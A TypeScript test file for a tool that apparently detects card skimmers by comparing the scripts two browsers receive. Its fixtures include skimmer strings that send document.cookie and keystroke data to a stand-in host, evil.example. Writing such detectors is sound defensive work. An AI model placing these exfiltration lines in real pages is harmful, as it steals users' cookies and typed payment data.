import { describe, expect, it } from 'vitest'
import type { Capture } from '#capture/index.ts'
import { compareClients } from '#inventory/index.ts'
import { makeBodies, makeCapture, makeFrame, makeScript } from '../helpers/make-capture.ts'

const address = (label: string) => ({ label, labelCode: { code: 'address', params: { address: label } } })

type Script = Parameters<typeof makeScript>[1]

const lib = { url: 'https://cdn.example/lib.js', text: 'window.lib = function (a) { return a + 1 }' }
const app = { url: 'https://shop.example/app.js', text: 'document.title = "Pay"' }
const skimmer = { url: 'https://evil.example/x.js', text: 'navigator.sendBeacon("https://evil.example", document.cookie)' }

function visit(scripts: Script[], given: Partial<Capture> = {}) {
  const bodies = makeBodies()
  return { capture: makeCapture({ ...given, scripts: scripts.map((script) => makeScript(bodies, script)) }), bodies }
}

describe('the comparison of two browsers', () => {
  it('finds nothing in two visits with the same scripts, in any order', () => {
    expect(compareClients(visit([lib, app]), visit([app, lib]))).toEqual([])
  })

  it('finds what only the second browser received, by its name', () => {
    expect(compareClients(visit([app]), visit([app, skimmer]))).toEqual([
      { seenBy: 'second', scriptId: null, ...address('evil.example/x.js') },
    ])
  })

  it('names a script without an address by its kind and number in the visit that has it', () => {
    const inline = { text: 'navigator.sendBeacon("https://evil.example", document.cookie)' }
    expect(compareClients(visit([app]), visit([app, { text: 'window.a = 1' }, inline]))).toMatchObject([
      { label: 'inline script 1 of shop.example', labelCode: { code: 'numbered', params: { kind: 'inline', number: 1 } } },
      { label: 'inline script 2 of shop.example', labelCode: { code: 'numbered', params: { kind: 'inline', number: 2 } } },
    ])
  })

  it('finds what only the first browser received, by its ID there', () => {
    const first = visit([app, lib])
    expect(compareClients(first, visit([app]))).toEqual([
      { seenBy: 'first', scriptId: first.capture.scripts[1]!.id, ...address('cdn.example/lib.js') },
    ])
  })

  it('finds other code behind the same address', () => {
    const first = visit([lib, app])
    const second = visit([{ ...lib, text: `${lib.text};addEventListener("input", (e) => fetch("//evil.example", { body: e.data }))` }, app])
    expect(compareClients(first, second)).toEqual([
      { seenBy: 'both', scriptId: first.capture.scripts[0]!.id, ...address('cdn.example/lib.js') },
    ])
  })

  it('ignores hashed names, noise in the query, and data that differs from load to load', () => {
    const page = (token: string) => [
      { url: `https://cdn.example/app.${token}.js?_=${token}`, text: 'run()' },
      { text: `window.session = { token: "${token}", at: ${token.length} }` },
      { ...lib, text: `${lib.text};var build = "${token}"` },
    ]
    expect(compareClients(visit(page('3f2a9c1b')), visit(page('77ab01cd9e00')))).toEqual([])
  })

  it('ignores differences between two visits of one browser', () => {
    const advert = (name: string) => ({ url: `https://ads.example/${name}.js`, text: `show_${name}()` })
    const first = visit([app, advert('spring'), { ...lib, text: 'a()' }])
    const second = visit([app, advert('summer'), { ...lib, text: 'b(1)' }])
    expect(compareClients(first, second)).toHaveLength(3)
    expect(compareClients(first, second, visit([app, advert('summer'), { ...lib, text: 'b(1)' }]))).toEqual([])
  })

  it('ignores code that differs in each visit', () => {
    const turn = (text: string) => visit([app, { ...lib, text }])
    expect(compareClients(turn('a()'), turn('b(1)'), turn('c(1, 2)'))).toEqual([])
    expect(compareClients(turn('a()'), turn('b(1)'), turn('a()'))).toMatchObject([{ seenBy: 'both' }])
  })

  it('still counts what only the second browser received after another visit of the first', () => {
    expect(compareClients(visit([app]), visit([app, skimmer]), visit([app]))).toHaveLength(1)
  })

  it("omits scripts that did not run, and those in the provider's frames", () => {
    const frames = [makeFrame(), makeFrame({ id: 'psp', parentId: 'main', url: 'https://js.stripe.com/v3/elements.html' })]
    const first = visit([app], { frames })
    const second = visit([app, { ...skimmer, state: 'fetched-not-run' }, { ...lib, frameId: 'psp' }], { frames })
    expect(compareClients(first, second)).toEqual([])
  })

  it('finds no other code if the first browser received no body of a script in any visit, and does if one visit has one', () => {
    const none = visit([app, { ...lib, digest: null, textSha256: null }])
    expect(compareClients(none, visit([app, lib]))).toEqual([])
    expect(compareClients(none, visit([app, lib]), none)).toEqual([])
    expect(compareClients(none, visit([app, lib]), visit([app, { ...lib, text: 'b(1)' }]))).toMatchObject([{ seenBy: 'both' }])
  })

  it('is unsure about what only the second browser received if a visit by the first is partial', () => {
    const partial = visit([app], {
      outcome: { status: 'partial', code: 'timeout', cause: { code: 'words', values: { text: '' } }, issues: [] },
    })
    for (const [first, again] of [
      [partial, visit([app])],
      [visit([app]), partial],
    ] as const)
      expect(compareClients(first, visit([app, skimmer]), again)).toEqual([
        { seenBy: 'second', scriptId: null, ...address('evil.example/x.js'), unsure: true },
      ])
  })

  it('concludes nothing after a failed visit', () => {
    const failed = visit([], { outcome: { status: 'failed', code: 'timeout', cause: { code: 'words', values: { text: '' } }, issues: [] } })
    expect(compareClients(visit([app]), failed)).toBeNull()
    expect(compareClients(failed, visit([app]))).toBeNull()
    expect(compareClients(visit([app]), visit([app]), failed)).toBeNull()
  })
})
